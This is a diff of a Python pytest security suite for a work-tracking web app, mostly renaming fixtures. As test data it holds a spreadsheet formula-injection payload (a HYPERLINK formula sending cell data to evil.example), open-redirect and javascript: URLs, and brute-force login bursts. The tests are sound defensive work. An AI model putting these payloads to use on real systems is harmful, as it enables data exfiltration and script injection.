@@ -17,30 +17,7 @@ from paths import SAMPLE
 from web_support import make_db, password, sign_in
 
 
-@pytest.fixture(scope="module")
-def db(tmp_path_factory):
-    database = make_db(tmp_path_factory.mktemp("security") / "security.db", files=[SAMPLE])
-    yield database
-    database.close()
-
-
-@pytest.fixture(scope="module")
-def app(db):
-    return create_app(db)
-
-
-@pytest.fixture
-def client(app):
-    clients = []
-
-    def make(role: str | None = "viewer") -> TestClient:
-        c = TestClient(app, follow_redirects=False)
-        clients.append(c)
-        return sign_in(c, role)
-
-    yield make
-    for c in clients:
-        c.close()
+WEB_REPORTS = "sample"  # the web fixtures of conftest.py hold the sample report alone here
 
 
 def _json(c: TestClient) -> dict:
@@ -49,8 +26,8 @@ def _json(c: TestClient) -> dict:
 
 # --- 3. The tracking sheet never holds a live formula ------------------------------------------
 
-def test_tracking_sheet_titles_and_units_starting_with_equals_stay_text(client):
-    e = client("editor")
+def test_tracking_sheet_titles_and_units_starting_with_equals_stay_text(client_for):
+    e = client_for("editor")
     formula = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
     r = e.post("/tracking/items", headers=_json(e), json={
         "title": formula, "lead_unit": "=1+1", "supporting_units": ["@SUM(A1)"], "year": 2024})
@@ -63,9 +40,9 @@ def test_tracking_sheet_titles_and_units_starting_with_equals_stay_text(client):
     assert ws["A2"].value == "序号" and ws["A1"].font.bold and ws.freeze_panes == "A3"
 
 
-def test_a_breakdown_sheet_cannot_bring_a_formula_into_the_tracking_sheet(client, db):
-    e = client("editor")
-    doc = store.list_documents(db)[0]
+def test_a_breakdown_sheet_cannot_bring_a_formula_into_the_tracking_sheet(client_for, web_db):
+    e = client_for("editor")
+    doc = store.list_documents(web_db)[0]
     sheet = '任务,牵头单位\n"=HYPERLINK(""http://evil.example"",""分解表任务"")",+市经信局\n'.encode("utf-8-sig")
     r = e.post("/tracking/import", headers=_json(e), data={"document_id": str(doc["id"])},
                files={"file": ("分解表.csv", sheet, "text/csv")})
@@ -99,9 +76,9 @@ def test_a_report_name_with_cr_lf_is_encoded_in_content_disposition(tmp_path):
 
 # --- 6. Signing out ends the session everywhere; a session has an absolute lifetime ------------
 
-def test_a_copied_cookie_stops_working_after_logout(client, app):
-    e = client("editor")
-    copy = TestClient(app, follow_redirects=False, cookies=dict(e.cookies))
+def test_a_copied_cookie_stops_working_after_logout(client_for, web_app):
+    e = client_for("editor")
+    copy = TestClient(web_app, follow_redirects=False, cookies=dict(e.cookies))
     assert copy.get("/session.json").json()["user"]["name"] == "editor"
     assert e.post("/logout", headers=_json(e)).status_code == 200
     assert copy.get("/.json").status_code == 401
@@ -109,10 +86,10 @@ def test_a_copied_cookie_stops_working_after_logout(client, app):
     copy.close()
 
 
-def test_a_session_in_constant_use_still_ends_after_its_absolute_lifetime(db):
+def test_a_session_in_constant_use_still_ends_after_its_absolute_lifetime(web_db):
     import time
 
-    with TestClient(create_app(db, session_max_age=3600, session_lifetime=4)) as c:
+    with TestClient(create_app(web_db, session_max_age=3600, session_lifetime=4)) as c:
         sign_in(c, "viewer")
         began = time.monotonic()
         while time.monotonic() - began < 2.0:  # in use all the time: the idle limit never strikes
@@ -167,20 +144,20 @@ async def _burst(app, names_and_addresses, secret="wrong-password") -> list[int]
     return await asyncio.gather(*(one(n, a) for n, a in names_and_addresses))
 
 
-def test_a_hundred_simultaneous_guesses_check_five_passwords_two_at_a_time(db, monkeypatch):
+def test_a_hundred_simultaneous_guesses_check_five_passwords_two_at_a_time(web_db, monkeypatch):
     import asyncio
 
-    app = create_app(db, login_limits=PATIENT)
+    app = create_app(web_db, login_limits=PATIENT)
     seen = _attempts(app, monkeypatch)
     codes = asyncio.run(_burst(app, [("admin", "10.0.0.1")] * 100))
     assert sorted(codes) == [401] * 5 + [429] * 95
     assert seen["checked"] == 5 and seen["most"] <= 2
 
 
-def test_guesses_from_one_address_do_not_lock_the_real_admin_out(db, monkeypatch):
+def test_guesses_from_one_address_do_not_lock_the_real_admin_out(web_db, monkeypatch):
     import asyncio
 
-    app = create_app(db, login_limits=PATIENT)
+    app = create_app(web_db, login_limits=PATIENT)
     attacker, office = ("admin", "10.0.0.66"), ("admin", "10.0.0.7")
     assert sorted(asyncio.run(_burst(app, [attacker] * 6))) == [401] * 5 + [429]
     assert asyncio.run(_burst(app, [office], secret=password("admin"))) == [200]
@@ -194,10 +171,10 @@ def test_guesses_from_one_address_do_not_lock_the_real_admin_out(db, monkeypatch
     assert asyncio.run(_burst(app, [("user19", sprayer), ("user20", sprayer)])) in ([401, 429], [429, 401])
 
 
-def test_guesses_for_one_name_from_many_addresses_meet_a_global_back_off(db, monkeypatch):
+def test_guesses_for_one_name_from_many_addresses_meet_a_global_back_off(web_db, monkeypatch):
     import asyncio
 
-    app = create_app(db, login_limits=PATIENT)
+    app = create_app(web_db, login_limits=PATIENT)
     seen = _attempts(app, monkeypatch)
     codes = asyncio.run(_burst(app, [("editor", f"10.1.0.{i}") for i in range(40)]))
     assert sorted(codes) == [401] * 10 + [429] * 30 and seen["checked"] == 10
@@ -215,8 +192,8 @@ def test_guesses_for_one_name_from_many_addresses_meet_a_global_back_off(db, mon
     ("deadline", "1" * 41),
     ("reason", "因" * 2001),
 ])
-def test_tracking_fields_over_their_limit_are_refused_naming_the_field(client, db, field, value):
-    e = client("editor")
+def test_tracking_fields_over_their_limit_are_refused_naming_the_field(client_for, web_db, field, value):
+    e = client_for("editor")
     r = e.post("/tracking/items", headers=_json(e), json={"title": "限额", "year": 2024, field: value})
     assert r.status_code == 422, r.text
     assert r.json()["error"]["message"].startswith(f"body.{field}")
@@ -224,8 +201,8 @@ def test_tracking_fields_over_their_limit_are_refused_naming_the_field(client, d
 
 @pytest.mark.parametrize("field, value", [("note", "记" * 5001), ("evidence_url", "/" + "a" * 2000),
                                           ("reason", "因" * 2001)])
-def test_progress_fields_over_their_limit_are_refused(client, db, field, value):
-    e = client("editor")
+def test_progress_fields_over_their_limit_are_refused(client_for, web_db, field, value):
+    e = client_for("editor")
     item = e.post("/tracking/items", headers=_json(e), json={"title": "进展限额", "year": 2024}).json()
     r = e.post(f"/tracking/items/{item['id']}/progress", headers=_json(e), json={"status": "behind", field: value,
                                                                                  **({} if field == "reason" else
@@ -268,7 +245,7 @@ WRONG = [
 ]
 
 
-def test_wrong_json_types_get_422_naming_the_field_and_keep_the_connection(db):
+def test_wrong_json_types_get_422_naming_the_field_and_keep_the_connection(web_db):
     """Against a real server (uvicorn): after each refusal the keep-alive connection still answers."""
     import http.client
     import json
@@ -281,7 +258,7 @@ def test_wrong_json_types_get_422_naming_the_field_and_keep_the_connection(db):
     with socket.socket() as s:
         s.bind(("127.0.0.1", 0))
         port = s.getsockname()[1]
-    server = uvicorn.Server(uvicorn.Config(create_app(db), host="127.0.0.1", port=port, log_level="warning"))
+    server = uvicorn.Server(uvicorn.Config(create_app(web_db), host="127.0.0.1", port=port, log_level="warning"))
     thread = threading.Thread(target=server.run, daemon=True)
     thread.start()
     try:
@@ -322,8 +299,8 @@ def test_wrong_json_types_get_422_naming_the_field_and_keep_the_connection(db):
 
 # --- 10. Headers, the API page's assets, evidence links -----------------------------------------
 
-def test_every_answer_carries_csp_frame_and_sniffing_headers(client):
-    v = client("viewer")
+def test_every_answer_carries_csp_frame_and_sniffing_headers(client_for):
+    v = client_for("viewer")
     for path in ("/", "/records", "/tracking", "/no/such/page", "/static/luoshi.js", "/session.json"):
         h = v.get(path).headers
         csp = h["content-security-policy"]
@@ -345,22 +322,22 @@ def test_no_page_needs_an_inline_script():
         assert "<style" not in html, template.name
 
 
-def test_the_api_page_is_served_from_the_package_to_readers_only(client):
-    anon = client(None)
+def test_the_api_page_is_served_from_the_package_to_readers_only(client_for):
+    anon = client_for(None)
     assert anon.get("/docs").status_code == 303  # to the sign-in page
     assert anon.get("/docs", headers={"Accept": "application/json"}).status_code == 401
-    page = client("viewer").get("/docs")
+    page = client_for("viewer").get("/docs")
     assert page.status_code == 200
     assert "cdn" not in page.text.lower() and "https://" not in page.text
     for asset in ("/static/vendor/swagger-ui-bundle.js", "/static/vendor/swagger-ui.css", "/static/docs.js"):
         assert f'"{asset}"' in page.text
-        assert client("viewer").get(asset).status_code == 200
+        assert client_for("viewer").get(asset).status_code == 200
 
 
 @pytest.mark.parametrize("url", ["//evil.example", "/\\evil.example", "/\t/evil.example", "javascript:alert(1)",
                                  "https:evil.example"])
-def test_an_evidence_link_is_a_web_address_or_a_path_on_this_site(client, url):
-    e = client("editor")
+def test_an_evidence_link_is_a_web_address_or_a_path_on_this_site(client_for, url):
+    e = client_for("editor")
     item = e.post("/tracking/items", headers=_json(e), json={"title": "证据链接", "year": 2024}).json()
     r = e.post(f"/tracking/items/{item['id']}/progress", headers=_json(e), json={"evidence_url": url})
     assert r.status_code == 422 and r.json()["error"]["message"].startswith("body.evidence_url"), r.text
@@ -372,8 +349,8 @@ def test_an_evidence_link_is_a_web_address_or_a_path_on_this_site(client, url):
         assert r.status_code == 200 and f'href="{good}"' in e.get(f"/tracking/items/{item['id']}").text
 
 
-def test_a_form_over_a_limit_shows_the_item_page_with_the_reason(client):
-    e = client("editor")
+def test_a_form_over_a_limit_shows_the_item_page_with_the_reason(client_for):
+    e = client_for("editor")
     item = e.post("/tracking/items", headers=_json(e), json={"title": "表单限额", "year": 2024}).json()
     r = e.post(f"/tracking/items/{item['id']}/progress",
                data={"csrf_token": e.csrf, "note": "记" * 5001, "status": "on_track"})
@@ -381,8 +358,8 @@ def test_a_form_over_a_limit_shows_the_item_page_with_the_reason(client):
     assert "note: String should have at most 5000 characters" in r.text
 
 
-def test_a_sign_in_with_no_hashing_slot_free_is_told_to_come_back(db):
-    app = create_app(db, login_limits={"hash_slots": 1, "hash_wait": 0.01})
+def test_a_sign_in_with_no_hashing_slot_free_is_told_to_come_back(web_db):
+    app = create_app(web_db, login_limits={"hash_slots": 1, "hash_wait": 0.01})
     limiter = app.state.login_limiter
     with TestClient(app) as c, limiter.hashing():  # the one slot is taken
         sign_in(c, None)
